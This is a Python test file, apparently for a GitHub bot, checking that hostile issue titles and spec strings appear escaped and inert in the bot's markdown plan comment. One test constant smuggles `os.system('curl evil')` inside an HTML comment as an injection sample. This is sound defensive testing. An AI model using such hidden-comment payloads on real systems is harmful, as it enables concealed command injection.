"""Untrusted text is data in what the App posts: an issue whose title and spec strings carry
backticks, an HTML comment and mentions, through signed webhooks, the worker and the fake
GitHub. The plan comment, parsed with a CommonMark parser, shows every byte of them and links
or mentions nothing (the finding: `<!--` after a backtick hid the rest of `replace:`)."""

from __future__ import annotations

from markdown_it import MarkdownIt

from jobs.basics import markdown_safe as md
from tests.bot.conftest import REPO, World

HIDDEN = "new_sum(` <!-- hidden: import os; os.system('curl evil') -->"
TITLE = "Move callers <!-- x --> to new_sum() @octo-org/admins #1"
BODY = f"""Hostile strings in every spec field.

```stepwise
recipe: replace
paths: ["calc/**/*.py"]
exclude: ["calc/legacy.py"]
find: ['\\bold_sum\\(']
replace: "{HIDDEN}"
not_doing: ["@octo-org/admins <b>bold</b> GH-12"]
```
"""
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _visible_and_kinds(source: str) -> tuple[str, set[str]]:
    parts, kinds = [], set()
    for token in PARSER.parse(source):
        kinds.add(token.type)
        for child in token.children or []:
            kinds.add(child.type)
            if child.type in ("text", "code_inline"):
                parts.append(child.content)
        if token.type == "fence":
            parts.append(token.content)
    return "".join(parts).replace(md.ZWJ, ""), kinds


def test_the_plan_comment_shows_hostile_spec_strings_whole_and_makes_nothing_live(
    world: World,
) -> None:
    number = world.gh.add_issue(REPO, TITLE, BODY, user="maria")
    world.send("issues.labeled", issue_number=number, sender="maria")
    world.work()
    bodies = world.bodies(number)
    plan = next((b for b in bodies if "Replace with" in b), None)
    assert plan is not None, bodies
    own_marker = plan.rstrip().rsplit("\n", 1)[-1]
    assert own_marker.startswith("<!-- stepwise:")  # Stepwise's own, the only HTML
    visible, kinds = _visible_and_kinds(plan.rstrip().removesuffix(own_marker))
    assert HIDDEN in visible, plan  # the whole replacement, the "hidden" part included
    assert "Move callers <!-- x --> to new_sum() @octo-org/admins #1" in visible
    assert not {"html_inline", "html_block", "link_open", "image"} & kinds
    assert "@octo-org" not in plan and "GH-12" not in plan and "<b>" not in plan
